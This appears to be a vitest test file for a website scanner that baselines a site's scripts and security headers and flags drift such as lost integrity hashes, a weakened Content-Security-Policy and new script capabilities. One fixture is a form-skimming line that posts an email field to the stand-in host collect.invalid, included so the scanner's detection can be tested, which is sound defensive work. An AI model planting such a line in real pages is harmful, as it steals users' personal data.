import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCommand, scanSite, siteServer } from '../helpers/site-server.ts';
import { temporaryFolder } from '../helpers/temporary-folder.ts';

const csp = "script-src 'self'; connect-src 'self'";

/** A site whose scripts and headers can be changed between scans. */
async function changingSite(): Promise<{ url: string; files: Record<string, string>; policy: string }> {
  const site = {
    url: '',
    policy: csp,
    files: {
      '/': '<script src="/app.1a2b3c4d.js" integrity="sha384-x"></script><script>track("a", 1)</script>',
      '/app.1a2b3c4d.js': "fetch('/api/items');",
    } as Record<string, string>,
  };
  const server = await siteServer((request, response) => {
    const text = site.files[request.url ?? ''];
    response.writeHead(text === undefined ? 404 : 200, {
      'content-type': request.url?.endsWith('.js') === true ? 'text/javascript' : 'text/html',
      ...(site.policy === '' ? {} : { 'content-security-policy': site.policy }),
    });
    response.end(text ?? '');
  });
  site.url = server.url;
  return site;
}

async function driftOf(url: string, ...args: readonly string[]): Promise<readonly (readonly string[])[]> {
  const { report } = await scanSite(url, '--browser', 'never', '--no-cache', ...args);
  return report.findings
    .filter(({ rule }) => /^script-(?:new|capability|integrity)|^header-weakened/.test(rule))
    .map(({ rule, severity }) => [rule, severity]);
}

describe('a script baseline', () => {
  it('is in a store, where one is and no file is named', async () => {
    const site = await changingSite();
    const store = path.join(temporaryFolder({}), 'store.db');
    expect(await driftOf(site.url, '--store', store)).toEqual([]);
    site.policy = '';
    const change = await driftOf(site.url, '--store', store);
    expect(change.map(([rule]) => rule)).toEqual(['header-weakened']);
    expect(await driftOf(site.url, '--store', store, '--update-script-baseline')).toEqual(change);
    expect(await driftOf(site.url, '--store', store)).toEqual([]);
  });

  it('is made by the first scan, and a rebuild that can do no more is no change', async () => {
    const site = await changingSite();
    const file = path.join(temporaryFolder({}), 'scripts.json');
    expect(await driftOf(site.url, '--script-baseline', file)).toEqual([]);
    const baseline = JSON.parse(readFileSync(file, 'utf8'));
    expect(baseline).toMatchObject({
      version: 1,
      scripts: [
        { isInline: false, integrity: 'sha384-x', sha384: expect.stringMatching(/^sha384-/) },
        { isInline: true },
      ],
      policies: { 'Content-Security-Policy': expect.stringMatching(/^script-src 'self' 'sha256-/) },
    });
    site.files = {
      '/': '<script src="/app.9f8e7d6c.js" integrity="sha384-y"></script><script>track("a", 2)</script>',
      '/app.9f8e7d6c.js': "fetch('/api/items'); console.log('new build');",
    };
    const before = readFileSync(file, 'utf8');
    expect(await driftOf(site.url, '--script-baseline', file)).toEqual([]);
    expect(readFileSync(file, 'utf8')).toBe(before);
  });

  it('tells what scripts gained, new origins and weaker headers, until they are approved', async () => {
    const site = await changingSite();
    const file = path.join(temporaryFolder({}), 'scripts.json');
    await driftOf(site.url, '--script-baseline', file);
    site.policy = "script-src 'self' 'unsafe-inline'; connect-src 'self'";
    site.files = {
      '/': '<script src="/app.9f8e7d6c.js"></script><script>track("a", 1)</script>',
      '/app.9f8e7d6c.js':
        "fetch('https://collect.invalid/x', { method: 'POST', body: document.querySelector('#email').value });",
    };
    const drift = [
      ['script-capability-gain', 'high'],
      ['header-weakened', 'medium'],
      ['script-integrity-lost', 'medium'],
    ];
    expect(await driftOf(site.url, '--script-baseline', file)).toEqual(drift);

    const baseline = JSON.parse(readFileSync(file, 'utf8'));
    const about = `${site.url}/ content-security-policy lets 'unsafe-inline' into script-src`;
    const approve = (until: string): void =>
      writeFileSync(
        file,
        JSON.stringify({
          ...baseline,
          approvals: [{ about, reason: 'old widget', until }],
          justifications: { [`inline ${site.url}/`]: 'counts visits' },
        }),
      );
    approve('2000-01-01');
    expect(await driftOf(site.url, '--script-baseline', file)).toEqual(drift);
    approve('2999-01-01');
    const evidence = path.join(path.dirname(file), 'evidence.md');
    expect(await driftOf(site.url, '--script-baseline', file, '--script-evidence', evidence)).toEqual(
      drift.filter(([rule]) => rule !== 'header-weakened'),
    );
    const told = readFileSync(evidence, 'utf8');
    expect(told).toContain('- Scripts: 2, of which without a justification: 1\n');
    expect(told).toContain('- Changes since the baseline: 3, of which not approved: 2\n');
    expect(told).toMatch(
      /\| `\S+\/app\.\{\}\.js` \| `\S+\/` \| none \| `sha384-\S+` \| .*network:collect\.invalid.* not in the baseline \| missing \|/,
    );
    expect(told).toMatch(/\| medium \| yes \| old widget \| 2999-01-01 \|/);
    await driftOf(site.url, '--script-baseline', file, '--update-script-baseline');
    expect(await driftOf(site.url, '--script-baseline', file)).toEqual([]);
    expect(JSON.parse(readFileSync(file, 'utf8')).approvals).toHaveLength(1);
  });

  it('is not made by an incomplete scan unless that is asked for', async () => {
    const server = await siteServer({
      '/': '<script>a()</script><a href="/shop">shop</a>',
      '/shop': (_, response) => void response.socket?.destroy(),
    });
    const file = path.join(temporaryFolder({}), 'scripts.json');
    const entryOf = async (...args: readonly string[]): Promise<readonly unknown[]> => {
      const { code, stderr, report } = await scanSite(
        server.url,
        '--no-cache',
        '--script-baseline',
        file,
        ...args,
      );
      const entry = report.coverage.checks?.find(({ id }) => id === 'script-baseline');
      return [code, entry?.state, entry?.reason, stderr.includes(`${file} was not written`)];
    };
    expect(await entryOf()).toEqual([3, 'skipped', expect.stringContaining('scripts may be missing'), true]);
    expect(existsSync(file)).toBe(false);
    const partial = [3, 'checked', expect.stringContaining('of an incomplete scan'), false];
    expect(await entryOf('--update-script-baseline')).toEqual(partial);
    expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ isComplete: false, scripts: [{}] });
    expect(await entryOf()).toEqual(partial);
  });

  it.each([
    [['--script-evidence', 'a.md'], '--script-evidence needs --script-baseline'],
    [['--script-baseline', '/nonexistent/a.json'], '/nonexistent/a.json cannot be written'],
  ])('of %j is wrong use', async (args, message) => {
    const { code, stderr } = await runCommand(['site', 'http://127.0.0.1:9/', ...args]);
    expect([code, stderr]).toEqual([2, expect.stringContaining(message)]);
  });

  it.each(['{}', 'not JSON', '{"version":1,"scripts":3}'])('that is none is wrong use: %s', async (text) => {
    const file = path.join(temporaryFolder({ 'scripts.json': text }), 'scripts.json');
    const { code, stderr } = await runCommand(['site', 'http://127.0.0.1:9/', '--script-baseline', file]);
    expect([code, stderr]).toEqual([2, expect.stringContaining('is no script baseline')]);
    expect(existsSync(`${file}.new`)).toBe(false);
  });
});
